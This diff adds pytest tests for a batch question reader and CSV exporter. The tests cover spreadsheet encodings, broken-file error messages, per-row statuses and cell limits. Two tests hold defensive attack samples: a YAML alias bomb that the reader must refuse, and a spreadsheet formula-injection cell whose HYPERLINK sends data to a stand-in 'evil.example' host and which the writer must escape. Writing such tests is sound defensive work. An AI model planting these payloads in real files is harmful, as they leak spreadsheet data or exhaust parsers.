@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -115,3 +117,105 @@ def test_csv_shows_one_based_pages_and_atomic_write_replaces(tmp_path):
     write_text_atomic(target, text)
     assert target.read_bytes() == text.encode("utf-8")
     assert [p.name for p in tmp_path.iterdir()] == ["results.csv"]  # no temporary left behind
+
+
+# --------------------------------------------------------------------------- files people make
+
+EXCEL_ROWS = [("What was Acme’s FY2023 revenue in €?", "r1"), ("Define free cash flow.", "r2")]
+
+
+@pytest.mark.parametrize(
+    ("encoding", "delimiter"),
+    [("utf-8", ","), ("utf-8-sig", ";"), ("utf-16", "\t"), ("cp1252", ",")],
+    ids=["utf8", "utf8-bom-semicolon", "utf16-bom-tab (Excel Unicode text)", "cp1252 (Excel CSV)"],
+)
+def test_csv_in_the_encodings_spreadsheets_write(tmp_path, encoding, delimiter):
+    f = tmp_path / "q.csv"
+    lines = [delimiter.join(["question", "id"])] + [delimiter.join(row) for row in EXCEL_ROWS]
+    f.write_bytes("\r\n".join(lines).encode(encoding))
+    questions = read_questions(f)
+    assert [(q.question, q.id) for q in questions] == EXCEL_ROWS
+    assert all(q.problem is None for q in questions)
+
+
+def test_text_in_no_known_encoding_names_file_and_line(tmp_path):
+    f = tmp_path / "q.csv"
+    f.write_bytes(b"question\nok?\n\x81\x8d\x8f bad\n")  # undefined even in cp1252
+    with pytest.raises(BatchFormatError, match=r"q\.csv:3: not UTF-8"):
+        read_questions(f)
+
+
+def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path):
+    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n" \
+           "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n" \
+           "questions: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
+    f = tmp_path / "bomb.yaml"
+    f.write_text(bomb, encoding="utf-8")
+    with pytest.raises(BatchFormatError, match=r"bomb\.yaml:2: .*aliases"):
+        read_questions(f)
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("bad.yaml", "- question: ok?\n- question: [unclosed\n", r"bad\.yaml:\d+: not valid YAML"),
+        ("scalar.yaml", "just a sentence\n", r"scalar\.yaml:1: expected a list"),
+        ("empty-header.csv", "id,company\n", "no 'question' column"),
+    ],
+)
+def test_broken_files_name_the_file_and_line(tmp_path, name, content, message):
+    f = tmp_path / name
+    f.write_text(content, encoding="utf-8")
+    with pytest.raises(BatchFormatError, match=message):
+        read_questions(f)
+
+
+def test_a_missing_file_or_a_directory_is_a_format_error(tmp_path):
+    with pytest.raises(BatchFormatError, match="file not found"):
+        read_questions(tmp_path / "nope.csv")
+    (tmp_path / "dir.csv").mkdir()
+    with pytest.raises(BatchFormatError, match="is a directory"):
+        read_questions(tmp_path / "dir.csv")
+
+
+def test_bad_rows_get_their_own_status_and_the_others_are_read(tmp_path):
+    f = tmp_path / "q.yaml"
+    f.write_text(
+        "- What is EBITDA?\n"
+        "- 42\n"
+        "- question: What was revenue?\n  strategy: telepathy\n"
+        "- company: Acme\n"
+        "- question: What is ROE?\n",
+        encoding="utf-8",
+    )
+    questions = read_questions(f)
+    assert [q.problem is None for q in questions] == [True, False, False, False, True]
+    assert questions[1].problem.startswith("q.yaml:2: ") and "got a number" in questions[1].problem
+    assert questions[2].problem.startswith("q.yaml:3: expected_strategy")
+    assert questions[3].problem == "q.yaml:5: no 'question'"
+    assert len({q.id for q in questions}) == 5
+
+
+def test_a_cell_over_the_limit_is_a_row_status_not_a_crash(tmp_path):
+    from flows.batch_io import MAX_CELL_CHARS
+
+    f = tmp_path / "q.csv"
+    huge = "x" * 140_000  # over the csv module's own 128 KiB field limit too
+    f.write_text(f"question,gold\nWhat is ROE?,1\nWhat is ROA?,{huge}\nWhat is EPS?,2\n", encoding="utf-8")
+    questions = read_questions(f)
+    assert [q.problem is None for q in questions] == [True, False, True]
+    assert questions[1].problem == f"q.csv:3: cell 'answer' is 140,000 characters, over the {MAX_CELL_CHARS:,} limit"
+    assert questions[1].question == "What is ROA?"
+
+
+def test_csv_cells_that_would_be_formulas_are_escaped(tmp_path):
+    record = _record(1)
+    record.question = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    record.answer.answer = "@SUM(1+1)"
+    record.answer.reason = "-1+2"
+    record.gold = -12.5
+    rows = list(csv.DictReader(io.StringIO(records_csv([record]))))
+    assert rows[0]["question"].startswith("'=HYPERLINK")
+    assert rows[0]["answer"] == "'@SUM(1+1)"
+    assert rows[0]["reason"] == "'-1+2"
+    assert rows[0]["gold"] == "-12.5"  # a plain number stays a number
